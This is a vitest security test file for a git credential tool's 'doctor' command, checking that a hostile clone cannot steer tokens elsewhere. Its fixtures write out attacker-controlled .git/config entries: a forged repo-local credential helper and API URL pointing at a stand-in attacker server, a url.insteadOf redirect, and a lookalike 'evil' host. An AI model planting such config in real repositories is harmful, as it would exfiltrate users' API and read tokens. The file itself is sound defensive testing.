// `doctor` run inside a hostile clone: the repository's own .git/config must not choose where
// doctor sends the API token or the read token its permission probe mints. Only the global and
// system config say which origins are ours (docs/credential-flow.md, "Origin policy").
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mints } from '../../support/artifacts-home.js';
import { startAttacker, startAttackWorld, tokensIn, type AttackWorld } from '../../support/attacker.js';
import { credentialBundle, makeGitHome } from '../../support/git-home.js';
import { gitsUnderTest } from '../../support/gits.js';

describe.each(gitsUnderTest())('doctor in a hostile clone with $label', (git) => {
  let world: AttackWorld;
  let n = 0;
  beforeAll(async () => {
    world = await startAttackWorld(git);
  });
  afterAll(() => world?.stop());

  /** A clone whose .git/config the attacker wrote. */
  const hostileClone = (config: string): string => {
    const dir = path.join(world.home.dir, `hostile-${++n}`);
    execFileSync('git', ['init', '-q', dir], { env: world.home.env });
    execFileSync('sh', ['-c', `cat >> "${dir}/.git/config"`], { input: config, env: world.home.env });
    return dir;
  };
  const doctor = (cwd: string, args: string[] = []) => world.home.run(process.execPath, [credentialBundle, 'doctor', '--json', ...args], { cwd });

  it('a repo-local credential block of "ours" naming the attacker as API URL gets no API token', async () => {
    const { home, attacker, emu } = world;
    const ours = execFileSync('git', ['config', '--global', '--get-regexp', '^credential\\..*\\.helper$'], { env: home.env, encoding: 'utf8' })
      .split('\n')
      .find((l) => l.includes('exec '))!
      .replace(/^\S+ /, '');
    const forged = ours.replace(emu.apiUrl, `${attacker.url}/client/v4`);
    expect(forged).not.toBe(ours);
    const dir = hostileClone(`[credential "${attacker.url}/"]\n\thelper = ${forged.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}\n[artifacts]\n\tapiUrl = ${attacker.url}/client/v4\n`);
    attacker.seen.length = 0;
    await doctor(dir);
    await doctor(dir, [`${attacker.url}/git/default/victim.git`]);
    expect(attacker.withCredentials()).toEqual([]);
  });

  it('a repo-local url.<attacker>.insteadOf does not redirect the probe\'s ls-remote (and its read token) to the attacker', async () => {
    const { home, attacker, emu } = world;
    const victim = `${emu.url.replace(/\/$/, '')}/git/default/victim.git`;
    const dir = hostileClone(`[url "${attacker.url}/"]\n\tinsteadOf = ${emu.url.replace(/\/$/, '')}/\n`);
    attacker.seen.length = 0;
    await emu.clearLog();
    const r = await doctor(dir, [victim]);
    expect(tokensIn(attacker.seen)).toEqual([]);
    expect(attacker.withCredentials()).toEqual([]);
    // The probe ran against the configured origin, as the user asked.
    expect(JSON.parse(r.stdout).checks.find((c: { id: string }) => c.id === 'repo-read')).toMatchObject({ status: 'ok' });
    expect(mints(await emu.settledLog()).filter((m) => m.repo === 'victim').map((m) => m.scope)).toEqual(['read', 'write']);
  });

  it('a remote whose host only ends like the configured one is not ours', async () => {
    const { emu } = world;
    const host = new URL(emu.url).host;
    const dir = hostileClone(`[remote "origin"]\n\turl = http://evil${host}/git/default/victim.git\n`);
    const r = JSON.parse((await doctor(dir, ['origin'])).stdout);
    expect(r.checks.find((c: { id: string }) => c.id === 'configured')).toMatchObject({ status: 'fail' });
  });

  it('an API that answers verify with 64 MiB is cut off at a sane size, not read whole', async () => {
    const chunk = Buffer.alloc(1 << 20, 0x20);
    const big = await startAttacker((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      let left = 64;
      const more = (): void => {
        while (left > 0) {
          left--;
          if (!res.write(chunk)) return void res.once('drain', more);
        }
        res.end();
      };
      more();
    });
    const home = makeGitHome(git, { ARTIFACTS_API_TOKEN: 'some-api-token-value' });
    try {
      const c = await home.run(process.execPath, [credentialBundle, 'configure', '--git-url', big.url, '--api-url', `${big.url}/client/v4`, '--account', 'a'.repeat(32)]);
      expect(c.code, c.stderr).toBe(0);
      const r = JSON.parse((await home.run(process.execPath, [credentialBundle, 'doctor', '--json'])).stdout);
      expect(r.checks.find((x: { id: string }) => x.id === 'api-reachable')).toMatchObject({ status: 'fail', found: expect.stringMatching(/larger than \d+ bytes/) });
    } finally {
      home.cleanup();
      await big.stop();
    }
  });
});
